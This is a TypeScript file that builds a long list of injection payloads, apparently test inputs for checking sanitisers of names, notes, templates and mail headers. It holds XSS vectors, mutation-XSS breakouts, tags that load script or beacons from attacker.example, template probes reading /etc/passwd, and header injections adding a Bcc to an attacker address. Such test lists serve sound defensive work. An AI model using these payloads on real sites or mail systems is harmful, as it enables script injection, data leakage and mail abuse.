/** What an attacker writes into a name or a note so that a page, a mail program, a template or a header runs it. */
const SCRIPTS = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script src=https://attacker.example/x.js></script>",
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<noscript><p title="</noscript><script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
];
const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onbegin',
  'onanimationstart',
  'onpointerenter',
];
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'input autofocus',
  'video src=x',
  'iframe srcdoc=x',
  'animate',
];
const LINKS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//attacker.example/',
  'https://attacker.example/?q="onclick=alert(1)',
];
const FETCHES = [
  '<img src="https://attacker.example/p.gif">',
  '<link rel=stylesheet href=https://attacker.example/a.css>',
  '<style>@import "https://attacker.example/a.css"</style>',
  '<div style="background:url(https://attacker.example/b)">',
  '<meta http-equiv=refresh content="0;url=https://attacker.example/">',
  '<base href="https://attacker.example/">',
  '<form action="https://attacker.example/"><button>Accept</button>',
  '<object data="https://attacker.example/o">',
  '<iframe src="https://attacker.example/f"></iframe>',
  '}</style><style>*{background:url(https://attacker.example/c)}',
];
/** What ends the element, comment or section that a text was put into. */
const BREAKOUTS = [
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</noscript><img src=x onerror=alert(1)>',
  '--><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>',
  '<![endif]--><img src=x onerror=alert(1)>',
  ']]><img src=x onerror=alert(1)>',
  '</td></tr></table><script>alert(1)</script>',
  '</a><a href=javascript:alert(1)>Accept</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
];
const TEMPLATES = [
  '{{7*7}}',
  '{{{name}}}',
  '$\u007balert(1)}',
  '<%= 7*7 %>',
  '#{7*7}',
  '[[link]]',
  '%%name%%',
  '$&$`$1',
  '<mj-raw>',
  '<mj-include path="/etc/passwd"/>',
];
const MARKS = ['\u202egnp.exe', '\u2066\u2067x\u2069', '\u0000nul', '\u001b[31mred', '\ufeffbom', '\u200bzero'];
const HEADERS = [
  'x\r\nBcc: all@attacker.example',
  'x\nSubject: hello',
  'x\r\n\r\n<script>alert(1)</script>',
  '=?utf-8?q?=0d=0aBcc:_a@attacker.example?=',
];

export const PAYLOADS: readonly string[] = [
  ...SCRIPTS,
  ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `"'><${tag} ${handler}=alert(1)>`)),
  ...HANDLERS.flatMap((handler) => [`" ${handler}=alert(1) x="`, `' ${handler}='alert(1)`, `\`${handler}=alert(1)`]),
  ...LINKS.flatMap((link) => [link, `<a href="${link}">x</a>`, `[x](${link})`]),
  ...FETCHES.flatMap((fetch) => [fetch, `">${fetch}`]),
  ...BREAKOUTS.flatMap((breakout) => [breakout, `"'${breakout}`]),
  ...TEMPLATES.flatMap((template) => [template, `x ${template} y`]),
  ...MARKS.flatMap((mark) => [mark, `a${mark}b`]),
  ...HEADERS.flatMap((header) => [header, `"${header}`]),
];
